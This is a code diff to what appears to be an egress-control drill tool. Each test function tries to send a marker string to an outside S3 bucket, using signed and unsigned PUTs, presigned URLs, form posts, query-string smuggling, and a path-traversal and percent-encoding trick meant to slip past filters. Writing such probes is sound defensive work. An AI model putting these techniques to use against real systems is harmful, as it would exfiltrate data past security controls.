@@ -10,7 +10,7 @@ from glovebox.drill.sigv4 import presigned
 
 @attempt(8, "S3 PutObject with the attacker's key")
 def put_object(scanner: Scanner) -> str:
-    url = f"https://{scanner.s3}/attacker-bucket/{scanner.marker}"
+    url = f"https://{scanner.s3}/{scanner.brief.foreign_bucket}/{scanner.marker}"
     body = scanner.marker.encode()
     data = scanner.signed("PUT", url, "s3", key=scanner.brief.own_key, body=body)
     return scanner.inside(data, host=scanner.s3)
@@ -42,7 +42,7 @@ def put_log_events(scanner: Scanner) -> str:
 
 @attempt(9, "a presigned GET of the attacker's")
 def presigned_get(scanner: Scanner) -> str:
-    url = f"https://{scanner.s3}/attacker-bucket/{scanner.marker}"
+    url = f"https://{scanner.s3}/{scanner.brief.foreign_bucket}/{scanner.marker}"
     signed = presigned(scanner.brief.own_key, "GET", url, "s3", scanner.brief.region)
     return scanner.inside(request("GET", signed), host=scanner.s3)
 
@@ -61,14 +61,14 @@ def form(scanner: Scanner) -> str:
         f'--b\r\nContent-Disposition: form-data; name="key"\r\n\r\n{scanner.marker}\r\n'
         f'--b\r\nContent-Disposition: form-data; name="file"\r\n\r\n{scanner.marker}\r\n--b--\r\n'
     ).encode()
-    url = f"https://{scanner.s3}/attacker-bucket"
+    url = f"https://{scanner.s3}/{scanner.brief.foreign_bucket}"
     fields = {"content-type": "multipart/form-data; boundary=b"}
     return scanner.inside(request("POST", url, body, **fields), host=scanner.s3)
 
 
 @attempt(9, "an unsigned PutObject to a bucket that anybody may write")
 def unsigned_put(scanner: Scanner) -> str:
-    url = f"https://{scanner.s3}/attacker-bucket/{scanner.marker}"
+    url = f"https://{scanner.s3}/{scanner.brief.foreign_bucket}/{scanner.marker}"
     return scanner.inside(request("PUT", url, b"x"), host=scanner.s3)
 
 
@@ -82,14 +82,15 @@ def sign_up(scanner: Scanner) -> str:
 
 @attempt(10, "data in the query of a request for the attacker's bucket, with our key")
 def bucket_query(scanner: Scanner) -> str:
-    url = f"https://{scanner.s3}/attacker-bucket/?x-d={scanner.marker}"
+    url = f"https://{scanner.s3}/{scanner.brief.foreign_bucket}/?x-d={scanner.marker}"
     return scanner.inside(scanner.signed("GET", url, "s3"), host=scanner.s3)
 
 
 @attempt(10, "the attacker's bucket behind a doubled slash and dots, with our key")
 def bucket_dots(scanner: Scanner) -> str:
-    url = f"https://{scanner.s3}/{scanner.brief.bucket}/..//attacker-bucket/?x-d={scanner.marker}"
-    escaped = f"https://{scanner.s3}/%61ttacker-bucket/?x-d={scanner.marker}"
+    url = f"https://{scanner.s3}/{scanner.brief.bucket}/..//{scanner.brief.foreign_bucket}/?x-d={scanner.marker}"
+    name = scanner.brief.foreign_bucket
+    escaped = f"https://{scanner.s3}/%{ord(name[0]):02x}{name[1:]}/?x-d={scanner.marker}"
     first = scanner.inside(scanner.signed("GET", escaped, "s3"), host=scanner.s3)
     return f"{first}; {scanner.inside(scanner.signed('GET', url, 's3'), host=scanner.s3)}"
 
